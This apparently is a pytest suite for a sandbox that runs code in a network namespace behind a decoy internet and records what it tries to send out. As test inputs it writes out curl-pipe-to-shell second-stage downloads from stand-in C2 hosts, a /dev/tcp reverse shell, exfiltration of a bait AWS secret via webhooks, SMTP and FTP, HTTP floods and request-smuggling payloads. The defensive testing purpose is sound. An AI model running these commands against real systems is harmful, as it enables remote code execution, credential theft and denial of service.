"""The decoy internet in a namespace like a jail's: real clients, and everything hostile."""

import gzip
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator

import pytest
from decoy_lab import (
    ENVIRONMENT,
    HAS_TOOLS,
    NSENTER,
    ORDINARY,
    SECRET,
    TOOLS,
    Lab,
    conversations_of,
    open_lab,
    requests_of,
)

from jail.watch.decoy import MAX_OPEN
from jail.watch.events import Net
from jail.watch.world_events import Reply, Speaker, Tls

ROOT = os.geteuid() == 0
pytestmark = pytest.mark.skipif(
    not (ROOT and NSENTER and HAS_TOOLS),
    reason="needs root, nsenter, ip and nft",
)
CURL = pytest.mark.skipif(not shutil.which("curl"), reason="there is no curl here")
LIBRARIES = os.environ.get("DECOY_CLIENTS_PYTHON", sys.executable)


@pytest.fixture
def lab() -> Iterator[Lab]:
    with open_lab() as lab:
        yield lab


def client(*modules: str) -> pytest.MarkDecorator:
    """Skips where a client's library is not there."""
    words = [LIBRARIES, "-c", f"import {', '.join(modules)}"]
    there = not subprocess.run(words, capture_output=True).returncode
    return pytest.mark.skipif(not there, reason=f"there is no {', '.join(modules)} here")


@pytest.mark.parametrize("user", ["root", "ordinary user"])
@pytest.mark.parametrize("ports", ["all", "a few"])
def test_every_address_answers_and_localhost_does_not(user: str, ports: str) -> None:
    if user != "root" and not shutil.which(ORDINARY[0]):
        pytest.skip("there is no setpriv here")
    program = """
import socket, sys
def go(host, port):
    try:
        with socket.create_connection((host, port), timeout=5) as connection:
            connection.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            return connection.recv(8).decode()
    except OSError as error:
        return error.errno
world = [("8.8.8.8", 80), ("10.0.0.1", 8080), ("2606:4700::1111", 443), ("224.9.9.9", 443)]
world += [("255.1.2.3", 8000), ("fe80::1", 80)][:1]
odd = [("1.2.3.4", 1), ("1.2.3.4", 65535), ("192.0.2.1", 9), ("2001:db8::1", 31337)]
near = [("127.0.0.1", 80), ("127.9.9.9", 443), ("::1", 80), ("10.0.2.15", 9), ("0.0.0.0", 9)]
print([go(*target) for target in world if target[0][:3] != "224"])
print([go(*target) for target in odd])
print([go(*target) for target in near])
"""
    with open_lab(user != "root", TOOLS if ports == "all" else TOOLS[:1]) as lab:
        python = "/usr/bin/python3" if user != "root" else sys.executable
        done = lab.run(python, "-c", program)
        assert done.returncode == 0, done.stderr
        world, odd, near = (json.loads(line.replace("'", '"')) for line in done.stdout.splitlines())
        assert world == ["HTTP/1.1"] * 4
        assert odd == (["HTTP/1.1"] * 4 if ports == "all" else [111] * 4)
        refused = (104, 111)
        assert all(answer in refused for answer in near)
        targets = {event.target for event in conversations_of(lab.events())}
        assert {"8.8.8.8:80", "10.0.0.1:8080", "[2606:4700::1111]:443", "255.1.2.3:8000"} <= targets
        assert not any("127." in target or "::1]" in target[:5] for target in targets)


URLLIB = (
    "import sys, urllib.request as u; d = u.urlopen(sys.argv[1]).read(); sys.stdout.buffer.write(d)"
)
REQUESTS = "import requests, sys; print(requests.get(sys.argv[1], timeout=9).text)"
URLLIB3 = (
    "import urllib3, sys; print(urllib3.PoolManager().request('GET', sys.argv[1]).data.decode())"
)
HTTPX = "import httpx, sys; print(httpx.get(sys.argv[1]).text)"
AIOHTTP = """
import aiohttp, asyncio, sys
async def go():
    async with aiohttp.ClientSession() as session, session.get(sys.argv[1]) as answer:
        print(await answer.text())
asyncio.run(go())
"""
CLIENTS = [
    pytest.param([sys.executable, "-c", URLLIB], id="urllib"),
    pytest.param([LIBRARIES, "-c", REQUESTS], id="requests", marks=client("requests")),
    pytest.param([LIBRARIES, "-c", URLLIB3], id="urllib3", marks=client("urllib3")),
    pytest.param([LIBRARIES, "-c", HTTPX], id="httpx", marks=client("httpx")),
    pytest.param([LIBRARIES, "-c", AIOHTTP], id="aiohttp", marks=client("aiohttp")),
    pytest.param(["curl", "-sS"], id="curl", marks=CURL),
    pytest.param(["wget", "-q", "-O-"], id="wget"),
]


@pytest.mark.parametrize("words", CLIENTS)
def test_clients_trust_it_and_are_told_in_full(lab: Lab, words: list[str]) -> None:
    if not shutil.which(words[0]):
        pytest.skip(f"there is no {words[0]} here")
    url = "https://c2.evil-host.xyz/raw/stage2?id=7"
    done = lab.run(*words, url)
    assert done.returncode == 0, done.stderr
    assert lab.world.marks.find(done.stdout.encode()) == url
    events = lab.events()
    (request,) = requests_of(events)
    (conversation,) = conversations_of(events)
    assert (request.method, request.url, request.status) == ("GET", url, 200)
    assert ("host", "c2.evil-host.xyz") in [
        (name.lower(), value) for name, value in request.headers
    ]
    assert conversation.name == "c2.evil-host.xyz"
    assert conversation.tls == Tls("c2.evil-host.xyz", True)
    assert (conversation.reply, conversation.first) == (Reply.DECOY, Speaker.PACKAGE)
    assert request.target == conversation.target
    assert conversation.target.endswith(":443")


@pytest.mark.parametrize(
    "words",
    [
        pytest.param(["curl", "-sS", "-d", f"key={SECRET}"], id="form", marks=CURL),
        pytest.param(
            ["curl", "-sS", "-F", f"file=@-;filename={SECRET}"], id="multipart", marks=CURL
        ),
        pytest.param(["curl", "-sS", "-H", f"X-Key: {SECRET}"], id="header", marks=CURL),
        pytest.param(["curl", "-sS", "-u", f"dev:{SECRET}"], id="basic auth", marks=CURL),
        pytest.param(["curl", "-sS", "-T", "-"], id="chunked upload", marks=CURL),
        pytest.param(
            ["curl", "-sS", "-H", "Expect: 100-continue", "-d", f"{SECRET}"],
            id="expect",
            marks=CURL,
        ),
    ],
)
def test_bait_is_found_wherever_it_is_sent(lab: Lab, words: list[str]) -> None:
    done = lab.run(*words, "https://discord.com/api/webhooks/1/abc", input=f"keys: {SECRET}\n")
    assert done.returncode == 0, done.stderr
    (request,) = requests_of(lab.events())
    assert request.bait == ("AWS_SECRET_ACCESS_KEY",)
    assert request.url == "https://discord.com/api/webhooks/1/abc"


@CURL
def test_bait_is_found_in_the_url_and_the_environment_is_told(lab: Lab) -> None:
    lab.run("curl", "-sS", f"http://1.2.3.4/?k={SECRET.encode().hex()}")
    body = json.dumps({**ENVIRONMENT, "AWS_SECRET_ACCESS_KEY": "?"}).encode()
    (lab.folder / "body").write_bytes(gzip.compress(body))
    packed = ["-H", "Content-Encoding: gzip", "--data-binary", "@body"]
    lab.run("curl", "-sS", *packed, "http://1.2.3.4/e")
    first, last = requests_of(lab.events())
    assert first.bait == ("AWS_SECRET_ACCESS_KEY",)
    assert last.environment
    assert not last.bait
    assert last.body.text == body.decode()
    assert last.body.size_bytes == len(gzip.compress(body))


def test_who_does_not_trust_us_is_told_with_the_name(lab: Lab) -> None:
    program = "import ssl, socket, sys\nc = socket.create_connection(('c2.evil.xyz', 8443))\n"
    program += "try: ssl.create_default_context(cafile=sys.argv[1]).wrap_socket("
    program += "c, server_hostname='C2.evil.xyz')\nexcept ssl.SSLError: print('no')"
    other = lab.folder / "other.pem"
    made = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=x"]
    subprocess.run([*made, "-keyout", os.devnull, "-out", other], capture_output=True)
    assert lab.python(program, str(other)) == "no\n"
    (conversation,) = conversations_of(lab.events())
    assert conversation.tls == Tls("c2.evil.xyz", False)
    assert conversation.name == "c2.evil.xyz"


def test_without_openssl_the_name_is_still_told() -> None:
    with open_lab(openssl=False) as lab:
        done = lab.run(sys.executable, "-c", URLLIB, "https://c2.evil.xyz/")
        assert done.returncode
        (conversation,) = conversations_of(lab.events())
        assert conversation.tls == Tls("c2.evil.xyz", False)


def test_a_client_that_verifies_nothing_and_names_nobody(lab: Lab) -> None:
    program = "import ssl, urllib.request as u; c = ssl._create_unverified_context()\n"
    program += "print(u.urlopen('https://203.0.113.9:8443/a.sh', context=c).read().decode())"
    assert "/bin/true" in lab.python(program)
    (request,) = requests_of(lab.events())
    assert request.url == "https://203.0.113.9:8443/a.sh"


@CURL
@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://1.2.3.4/stage2 | sh",
        "curl -s https://get.evil.xyz/i.sh | bash",
        'sh -c "$(curl -s http://1.2.3.4/stage2)"',
        "curl -so x http://1.2.3.4/x.bin && chmod +x x && ./x",
        "curl -so b.zip https://github.com/a/bun/releases/download/v1/bun-linux-x64.zip"
        " && python3 -c \"import shutil; shutil.unpack_archive('b.zip')\""
        " && sh bun-linux-x64/bun",
        "python3 -c \"import urllib.request as u; exec(u.urlopen('http://1.2.3.4/p').read())\"",
        "curl -s http://1.2.3.4/x.py | python3",
    ],
)
def test_a_second_stage_runs_and_says_so(lab: Lab, command: str) -> None:
    words = ["strace", "-f", "-qq", "-e", "trace=execve", "-o", "trace", "sh", "-c", command]
    if not shutil.which("strace"):
        pytest.skip("there is no strace here")
    assert lab.run(*words).returncode == 0
    trace = (lab.folder / "trace").read_text()
    (request,) = requests_of(lab.events())
    mark = lab.world.marks.mark(request.url)
    assert f'execve("/bin/true", ["/bin/true", "{mark}"]' in trace


def test_raw_bytes_are_told_and_who_spoke_first(lab: Lab) -> None:
    program = """
import socket, sys
def send(port, data):
    with socket.create_connection(("45.33.32.156", port), timeout=20) as c:
        c.sendall(data); c.shutdown(socket.SHUT_WR); return c.recv(99)
print(send(4444, b"id=" + sys.argv[1].encode()), send(4445, bytes(range(256)) * 1000))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    for part in (b"one", b"two", sys.argv[1].encode()): s.sendto(part, ("45.33.32.156", 5555))
with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s: s.sendto(b"six", ("2606::6", 6))
"""
    assert lab.python(program, SECRET) == "b'' b''\n"
    time.sleep(0.1)
    first, big, datagrams, six = conversations_of(lab.events())
    assert first.payload
    assert first.payload.text == f"id={SECRET}"
    assert first.bait == datagrams.bait == ("AWS_SECRET_ACCESS_KEY",)
    assert big.payload
    assert (big.payload.size_bytes, big.payload.truncated) == (256_000, True)
    assert len(big.payload.text) <= 4096
    assert datagrams.payload
    assert (datagrams.net, datagrams.target) == (Net.UDP, "45.33.32.156:5555")
    assert datagrams.payload.text == f"onetwo{SECRET}"
    assert six.target == "[2606::6]:6"


def test_a_shell_that_waits_for_orders_is_let_go(lab: Lab) -> None:
    start = time.monotonic()
    lab.run("bash", "-c", "bash -i >& /dev/tcp/45.33.32.156/9001 0>&1")
    assert time.monotonic() - start < 20
    (conversation,) = conversations_of(lab.events())
    assert conversation.target == "45.33.32.156:9001"


def test_smtp_takes_the_mail_and_the_password(lab: Lab) -> None:
    program = """
import smtplib, ssl, sys
for port, tls in ((587, True), (25, False)):
    with smtplib.SMTP("smtp.evil-mail.com", port, timeout=20) as s:
        if tls: s.starttls(context=ssl.create_default_context())
        s.login("boss@evil-mail.com", "hunter2hunter2")
        s.sendmail("a@a.com", ["b@b.com"], "Subject: x\\r\\n\\r\\n" + sys.argv[1])
with smtplib.SMTP_SSL("smtp.evil-mail.com", 465, timeout=20) as s: s.sendmail("a", "b", sys.argv[1])
print("sent")
"""
    assert lab.python(program, SECRET) == "sent\n"
    told = conversations_of(lab.events())
    assert [event.bait for event in told] == [("AWS_SECRET_ACCESS_KEY",)] * 3
    assert [event.first for event in told] == [Speaker.DECOY] * 3
    assert [event.tls and event.tls.trusted_us for event in told] == [True, None, True]
    assert told[0].payload
    assert "AUTH PLAIN" in told[0].payload.text


def test_ftp_takes_the_file(lab: Lab) -> None:
    program = """
import ftplib, io, sys
with ftplib.FTP("ftp.evil.xyz", "dev", "pass", timeout=20) as f:
    f.cwd("/up"); f.storbinary("STOR loot", io.BytesIO(sys.argv[1].encode()))
print("stored")
"""
    assert lab.python(program, SECRET) == "stored\n"
    told = conversations_of(lab.events())
    assert any(event.bait for event in told)
    assert len(told) == 2


@client("paramiko")
def test_ssh_gets_a_banner(lab: Lab) -> None:
    program = """
import paramiko
t = paramiko.Transport(("c2.evil.xyz", 22)); t.banner_timeout = 9
try: t.start_client(timeout=9)
except Exception as e: print(type(e).__name__, t.remote_version)
"""
    done = lab.run(LIBRARIES, "-c", program)
    assert "SSH-2.0-OpenSSH" in done.stdout, done.stderr
    (conversation,) = conversations_of(lab.events())
    assert conversation.payload
    assert conversation.payload.text.startswith("SSH-2.0-paramiko")


@client("websockets")
def test_a_websocket_is_refused(lab: Lab) -> None:
    program = """
from websockets.sync.client import connect
try: connect("wss://ws.evil.xyz/live")
except Exception as e: print(e)
"""
    done = lab.run(LIBRARIES, "-c", program)
    assert "403" in done.stdout, done.stderr
    (request,) = requests_of(lab.events())
    assert request.url == "https://ws.evil.xyz/live"


@client("dns")
def test_dnspython_at_any_resolver(lab: Lab) -> None:
    program = """
import dns.resolver, dns.message, dns.query
for server in ("9.8.7.6", "2620:fe::fe"):
    r = dns.resolver.Resolver(configure=False); r.nameservers = [server]; r.lifetime = 5
    print(r.resolve("c2.evil.xyz", "A")[0], r.resolve("c2.evil.xyz", "TXT")[0],
          r.resolve("c2.evil.xyz", "MX")[0])
    for name, kind in (("no.local", "A"), ("c2.evil.xyz", "AAAA")):
        try: r.resolve(name, kind)
        except Exception as e: print(type(e).__name__)
"""
    done = lab.run(LIBRARIES, "-c", program)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[1:3] == lines[4:6] == ["NXDOMAIN", "NoAnswer"]
    assert str(lab.world.names.address("c2.evil.xyz")) in lines[0]
    assert "10 mail.evil.xyz." in lines[0]


@CURL
def test_a_proxy_is_one(lab: Lab) -> None:
    proxy = ["curl", "-sS", "-x", "http://5.6.7.8:3128"]
    assert lab.run(*proxy, "http://inner.evil.xyz/a.sh").returncode == 0
    done = lab.run(*proxy, "https://inner.evil.xyz/b.sh")
    assert done.returncode == 0, done.stderr
    events = lab.events()
    urls = [request.url for request in requests_of(events)]
    assert urls == [
        "http://inner.evil.xyz/a.sh",
        "inner.evil.xyz:443",
        "https://inner.evil.xyz/b.sh",
    ]
    assert {event.target for event in conversations_of(events)} == {"5.6.7.8:3128"}


HOSTILE = """
import os, socket, ssl, sys, threading, time
TARGET = ("45.33.32.156", int(sys.argv[1]))
def connect(target=TARGET):
    return socket.create_connection(target, timeout=30)
"""


def attack(lab: Lab, source: str, port: int = 80) -> str:
    done = lab.run(sys.executable, "-c", HOSTILE + source, str(port), timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


def still_answers(lab: Lab) -> None:
    """Its innocent neighbour gets what it asks for."""
    start = time.monotonic()
    out = lab.python(URLLIB, "http://neighbour.example.com/a.sh")
    assert "/bin/true" in out
    assert time.monotonic() - start < 15


def test_ten_thousand_connections(lab: Lab) -> None:
    attack(
        lab,
        """
for n in range(10000):
    with connect(("45.33.32.%d" % (n % 200 + 1), 80)) as c: c.sendall(b"x%d" % n)
""",
    )
    still_answers(lab)
    events = lab.events()
    assert any(request.url.startswith("http://neighbour") for request in requests_of(events))
    # And the first of each target.
    assert 2000 <= len(conversations_of(events)) <= 2500
    assert lab.decoy.traffic.lost["Conversation"] > 7000


def test_connections_that_are_held_make_room(lab: Lab) -> None:
    held = MAX_OPEN * 3
    attack(
        lab,
        f"""
import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
held = [connect() for _ in range({held})]
with connect() as c:
    c.sendall(b"GET /last HTTP/1.0\\r\\n\\r\\n"); assert c.recv(99)
time.sleep(0.5)
""",
    )
    still_answers(lab)
    events = lab.events()
    assert len(conversations_of(events)) == held + 2
    assert lab.decoy.traffic.lost["connection, to its end"] > MAX_OPEN


FLOODS = {
    "a header without end": r"""
c = connect()
c.sendall(b"GET / HTTP/1.1\r\n" + b"X: " + b"a" * (1 << 20))
c.recv(9)
""",
    "headers without end": r"""
c = connect()
c.sendall(b"GET / HTTP/1.1\r\n" + b"X: a\r\n" * 99999)
c.recv(9)
""",
    "a body without end": r"""
c = connect()
c.sendall(b"POST / HTTP/1.1\r\nContent-Length: 999999999999\r\n\r\n")
for _ in range(999): c.sendall(bytes(1 << 20))
""",
    "chunks without end": r"""
c = connect()
c.sendall(b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n")
for _ in range(999): c.sendall(b"1\r\na\r\n" * 9999)
""",
    "requests that nobody reads the answers of": r"""
c = connect()
c.settimeout(3)
c.sendall(b"GET / HTTP/1.1\r\n\r\n" * 50000)
""",
    "long requests": r"""
c = connect()
for _ in range(99): c.sendall(b"GET /" + b"a" * 3000 + b" HTTP/1.1\r\n\r\n" * 99)
""",
    "raw bytes without end": r"""
c = connect()
for _ in range(999): c.sendall(os.urandom(1 << 20))
""",
    "garbage that begins as TLS": r"""
for n in range(300):
    c = connect()
    c.sendall(b"\x16\x03\x01" + os.urandom(500))
    c.close()
""",
    "records of one byte": r"""
for n in range(300):
    c = connect()
    c.sendall(b"\x16\x03\x01\x00\x01\x01" * 9000)
    c.close()
""",
    "a hello that never comes": r"""
c = connect()
c.sendall(b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc")
time.sleep(1)
""",
    "datagrams": r"""
for n in range(3000):
    s = socket.socket(type=socket.SOCK_DGRAM)
    s.sendto(bytes(9000), TARGET)
    s.close()
""",
}


@pytest.mark.parametrize("flood", FLOODS)
def test_floods_are_cut_and_the_neighbour_notices_nothing(lab: Lab, flood: str) -> None:
    usage = time.process_time()
    indented = FLOODS[flood].strip().replace("\n", "\n    ")
    attack(lab, f"try:\n    {indented}\nexcept OSError:\n    pass\n")
    still_answers(lab)
    events = lab.events()
    assert requests_of(events)[-1].url.startswith("http://neighbour")
    assert time.process_time() - usage < 20


def test_slow_bodies_do_not_keep_others(lab: Lab) -> None:
    attack(
        lab,
        """
slow = [connect() for _ in range(100)]
for c in slow: c.sendall(b"POST / HTTP/1.1\\r\\nContent-Length: 1000\\r\\n\\r\\n")
for _ in range(5):
    for c in slow: c.sendall(b"a")
    time.sleep(0.1)
with connect() as c:
    c.sendall(b"GET /last HTTP/1.0\\r\\n\\r\\n"); assert c.recv(99)
""",
    )
    still_answers(lab)
    told = requests_of(lab.events())
    unfinished = [request for request in told if request.status is None]
    assert len(unfinished) == 100
    assert {request.body.size_bytes for request in unfinished} == {5}


def test_a_hundred_names_of_tls(lab: Lab) -> None:
    attack(
        lab,
        """
context = ssl._create_unverified_context()
for n in range(100):
    with context.wrap_socket(connect(), server_hostname="n%d.evil.xyz" % n) as c:
        c.sendall(b"GET /%d HTTP/1.0\\r\\n\\r\\n" % n); assert c.recv(99)
""",
        443,
    )
    still_answers(lab)
    events = lab.events()
    assert len(requests_of(events)) == 101
    assert lab.decoy.traffic.lost["certificate"] == 36


def test_tls_is_not_negotiated_again(lab: Lab) -> None:
    openssl = str(shutil.which("openssl"))
    words = [openssl, "s_client", "-connect", "1.2.3.4:443", "-servername", "a.com", "-tls1_2"]
    done = lab.run(*words, input="R\nGET / HTTP/1.0\n\n")
    assert "renegotiat" in (done.stdout + done.stderr).lower()
    still_answers(lab)


SMUGGLED = (
    b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"0\r\n\r\nGET /x HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\nHost: a\n\nGET /x HTTP/1.1\r\n\r\n",
    b"GET /x HTTP/1.1\r\nX : y\r\n\r\nGET /y HTTP/1.1\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: [::::]:99999\r\n\r\n",
    b"GET http://[ HTTP/1.1\r\n\r\n",
    b"GET //\xff\xfe HTTP/1.1\r\nHost: \xff\r\n\r\n",
    b"CONNECT a:99999 HTTP/1.1\r\n\r\n\x16\x03\x01",
)


@pytest.mark.parametrize("raw", SMUGGLED)
def test_smuggled_and_odd_requests_hide_nothing(lab: Lab, raw: bytes) -> None:
    out = attack(
        lab,
        f"c = connect(); c.sendall({raw!r} + b'{SECRET}'); c.shutdown(1)\n"
        "d = b''\nwhile p := c.recv(9999): d += p\nprint(d.count(b'HTTP/1.1 '))",
    )
    assert int(out) <= 1
    still_answers(lab)
    events = lab.events()
    bait = [event.bait for event in requests_of(events) if event.bait]
    bait += [event.bait for event in conversations_of(events) if event.bait]
    assert bait == [("AWS_SECRET_ACCESS_KEY",)]


def test_what_was_sent_just_before_the_end_is_told(lab: Lab) -> None:
    attack(
        lab, f"c = connect(); c.sendall(b'GET /last?{SECRET} HTTP/1.1\\r\\n\\r\\n'); os._exit(0)"
    )
    (request,) = requests_of(lab.events())
    assert request.bait


def test_nothing_gets_out(lab: Lab) -> None:
    """No route leads anywhere: what is answered is answered by us alone."""
    links = lab.run("cat", "/proc/net/dev").stdout.splitlines()[2:]
    assert [line.split(":")[0].strip() for line in links] == ["lo"]
